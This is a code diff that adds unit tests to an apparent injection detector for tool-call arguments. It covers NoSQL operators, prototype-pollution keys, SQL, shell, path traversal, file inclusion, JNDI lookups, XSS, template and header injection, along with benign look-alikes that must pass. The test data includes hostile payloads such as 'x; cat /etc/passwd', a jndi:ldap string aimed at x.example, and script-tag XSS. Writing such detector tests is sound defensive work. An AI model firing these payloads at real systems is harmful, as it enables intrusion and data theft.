@@ -70,6 +70,114 @@ describe("operators", () => {
   });
 });
 
+describe("names of arguments", () => {
+  it.each([
+    "user[$ne]",
+    "__proto__.admin",
+    "a[__proto__][b]",
+    "constructor.prototype.x",
+    "a.constructor[prototype]",
+  ])("smuggle what servers make of them: %s", (name) => {
+    expect(inspect({ [name]: "x" })).toContain("injection.operator at ");
+  });
+
+  it.each(["user[name]", "$ref", "prototype", "constructor", "items[0].id", "proto.x"])(
+    "may be %s",
+    (name) => {
+      expect(inspect({ [name]: "x" })).toEqual([]);
+    },
+  );
+
+  it("of secrets take no operators either", () => {
+    expect(inspect({ password: { $gt: "" } })).toEqual(["injection.operator at /password"]);
+  });
+});
+
+describe("an argument that nothing tells of", () => {
+  it.each([
+    ["' OR 'a'='a", "injection.sql"],
+    ["x; cat /etc/passwd", "injection.shell"],
+    ["../../../etc/passwd", "injection.path.traversal"],
+    ["/etc/passwd", "injection.path.sensitive-file"],
+    ["php://filter/resource=index", "injection.inclusion"],
+    ["https://x.example/a.txt?", "injection.inclusion"],
+    ["\u0024{jndi:ldap://x.example/a}", "injection.java"],
+    ["<img src=x onerror=alert(1)>", "injection.html"],
+    ["{{7*7}}", "injection.template"],
+    ["en\r\nSet-Cookie: a=b", "injection.header"],
+  ])("is looked through as a name is: %j", (value, rule) => {
+    expect(inspect({ frobnicate: value })).toContain(`${rule} at /frobnicate`);
+  });
+
+  it.each([
+    "npm ci && npm test",
+    "ls -la | wc -l",
+    "/usr/bin/env",
+    "./build --all && ./check",
+    "../sibling/README.md",
+    "http://localhost:3000/health",
+    "cache:/root/.cache",
+    "SQL; NoSQL; C/C++ & Bash",
+    '3.2 "Scope" (draft)',
+    "kind: Pod\nmetadata:\n  name: x",
+    "L'Isle-sur-la-Sorgue",
+    "Late check-in (after 22:00), 2 beds or 1 king",
+    `${"What the attacker sent was ' OR 'a'='a, as the log says. ".repeat(12)}`,
+  ])("may be a command, a way or a text of its own: %j", (value) => {
+    expect(inspect({ frobnicate: value })).toEqual([]);
+  });
+
+  it("is a text where its description says so", () => {
+    const schema = { properties: { frob: { type: "string", description: "The message to show" } } };
+    expect(inspect({ frob: "{{7*7}}" }, schema)).toEqual([]);
+  });
+
+  it("may be a password, whose signs nobody chooses", () => {
+    expect(inspect({ password: "$(x)`y`'--" })).toEqual([]);
+    expect(inspect({ password: "' OR 'a'='a" })).toEqual(["injection.sql at /password"]);
+  });
+});
+
+describe("a title", () => {
+  it.each([
+    ['"><script>alert(1)</script>', "html"],
+    ["' onfocus='alert(1)' autofocus='", "html"],
+    ["javascript:alert(1)", "html"],
+    ["\u0024{jndi:ldap://x.example/a}", "java"],
+    ["' or '1'='1", "sql"],
+    ["x\r\nBcc: all@x.example", "header"],
+  ])("runs nothing where it is shown: %j", (title, rule) => {
+    expect(inspect({ title })).toContain(`injection.${rule} at /title`);
+  });
+
+  it.each([
+    "<script> tag in markdown is stripped",
+    '"Save & close" button does nothing',
+    "'; DROP TABLE is in our test data",
+    'XSS: "><script>alert(1)</script>',
+    "\u0024{VAR} is not expanded",
+    "javascript: links should be blocked",
+    "'quoted' or \"double\"",
+    "<b>Ann</b>",
+    "2 > 1",
+  ])("may speak of payloads: %s", (title) => {
+    expect(inspect({ title })).toEqual([]);
+  });
+});
+
+describe("what a server puts into a page", () => {
+  it("is its own, unless the tool says that it takes addresses", () => {
+    const place = { template: "https://x.example/t" };
+    const described = (description: string) => ({
+      properties: { template: { type: "string", description } },
+    });
+    expect(inspect(place)).toEqual(["injection.inclusion at /template"]);
+    expect(inspect(place, described("Name of the template"))).toHaveLength(1);
+    expect(inspect(place, described("URL of the template"))).toEqual([]);
+    expect(inspect({ template: "Dear {{name}}, see https://x.example/" })).toEqual([]);
+  });
+});
+
 describe("what is found", () => {
   it("is not hidden behind a megabyte, and costs no more than the budget", () => {
     expect(inspect({ id: `${"a ".repeat(100_000)}' OR 'a'='a` })).toEqual([
